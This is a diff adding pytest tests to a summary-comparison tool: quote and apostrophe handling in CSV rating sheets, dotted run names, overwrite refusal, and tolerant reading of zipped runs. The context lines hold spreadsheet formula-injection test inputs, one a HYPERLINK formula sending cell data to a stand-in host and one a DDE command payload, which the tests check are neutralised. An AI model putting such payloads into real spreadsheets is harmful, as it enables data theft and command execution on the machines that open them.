@@ -179,3 +179,71 @@ def test_document_text_that_excel_would_run_is_written_as_text():
     assert csv_cell('=HYPERLINK("http://x.test/?"&A1)').startswith("'=")
     assert csv_cell("+1+cmd|' /C calc'!A0").startswith("'") and csv_cell("@SUM(1)").startswith("'")
     assert csv_cell("-2+3").startswith("'") and csv_cell("- a Markdown bullet") == "- a Markdown bullet"
+
+
+def test_quotes_and_apostrophes_in_summaries_and_dotted_run_names_read_back(runs, tmp_path, capsys):
+    """A CSV whose summaries hold 'single' and "double" quotes (the sniffer once took ' for the quote
+    character) reads back whole; a run named gpt-4.1 keeps its dot in the sheet's name; a second sheet over a
+    key already handed out is refused."""
+    import shutil
+
+    for name in ("run-gpt-4.1", "run-gpt-4o"):
+        shutil.copytree(runs / ("offline" if name.endswith("4.1") else "model"), tmp_path / name)
+    assert main(["compare", str(tmp_path / "run-gpt-4.1"), str(tmp_path / "run-gpt-4o"), "-o",
+                 str(tmp_path / "cmp-gpt-4.1-vs-gpt-4o"), "--seed", "3"]) == 0
+    sheet = tmp_path / "cmp-gpt-4.1-vs-gpt-4o.csv"
+    assert sheet.is_file() and (tmp_path / "cmp-gpt-4.1-vs-gpt-4o.key.json").is_file()
+    assert main(["compare", str(tmp_path / "run-gpt-4.1"), str(tmp_path / "run-gpt-4o"), "-o",
+                 str(tmp_path / "cmp-gpt-4.1-vs-gpt-4o")]) == 2
+    assert "--force" in capsys.readouterr().err
+    key = json.loads((tmp_path / "cmp-gpt-4.1-vs-gpt-4o.key.json").read_text())
+    rows = list(csv.DictReader(io.StringIO(sheet.read_text("utf-8-sig"))))
+    for n, r in enumerate(rows):
+        r["summary 1"] = "The mayor's aide said 'we're fine' and 'roads first'. " + r["summary 1"]
+        if n > 2:
+            r["summary 2"] = 'Critics called it "a plan for cars", the "worst" in years. ' + r["summary 2"]
+        r["choice"] = "1" if key["order"][r["id"]] == "ab" else "2"  # run a every time
+    with sheet.open("w", encoding="utf-8-sig", newline="") as f:
+        writer = csv.DictWriter(f, rows[0].keys())
+        writer.writeheader()
+        writer.writerows(rows)
+    ratings, _, notes = read_ratings(sheet)
+    assert len(ratings) == 6 and all(r.winner == A for r in ratings) and not notes, notes
+
+
+def test_a_batch_zip_with_broken_entries_reads_the_sound_ones(runs, tmp_path):
+    import zipfile
+
+    from summarizer.compare.runs import read_run
+
+    with zipfile.ZipFile(tmp_path / "run.zip", "w") as z:  # a zipped output folder: everything under "run/"
+        lines = (runs / "model" / "index.jsonl").read_text().splitlines()
+        for line in lines:
+            record = json.loads(line)
+            z.writestr(f"run/{record['json']}", (runs / "model" / record["json"]).read_text())
+        z.writestr("run/index.jsonl", "\n".join([*lines, json.dumps({"status": "done", "json": "x.json"}),
+                                                 json.dumps({"id": "bad", "status": "done", "json": "a0.summary.md"})]))
+        z.writestr("run/a0.summary.md", "[1, 2]")
+    run = read_run(tmp_path / "run.zip")
+    assert sorted(run.documents) == [f"a{i}" for i in range(6)]
+
+
+def test_a_sheet_whose_summaries_are_full_of_apostrophes_reads_back():
+    """Summaries with ' in every cell made the CSV sniffer take ' for the quote character and shift every
+    column ('1.00' is not 1, 2 or tie); the delimiter now comes from the header line and quoting is Excel's."""
+    from summarizer.compare.ratings import parse_key, ratings_from
+    from summarizer.compare.runs import BatchRun, RunDocument
+    from summarizer.compare.sheet import sheet_bytes
+
+    said = "The company's CEO said 'we're fine' and the board's 'plan' is 'on track', it's said."
+
+    def doc(i: int, summary: str) -> RunDocument:
+        return RunDocument(f"d{i}", "h", "done", f"T{i}", summary, "m", "article", 1000, 1.0, 0.001, 0, 0)
+
+    pairs = [(doc(i, f"{said} A{i}"), doc(i, f"Other: {said} B{i}")) for i in range(4)]
+    made = sheet_bytes(pairs, BatchRun(Path("ra"), {a.id: a for a, _ in pairs}),
+                       BatchRun(Path("rb"), {b.id: b for _, b in pairs}), seed=1)
+    lines = made.csv.decode("utf-8-sig").splitlines()
+    filled = "\n".join([lines[0], *(line[:-2] + ",1," for line in lines[1:])]).encode()  # "1" in every choice cell
+    ratings, key, notes = ratings_from("s.csv", filled, parse_key("k", made.key))
+    assert len(ratings) == 4 and not notes, notes
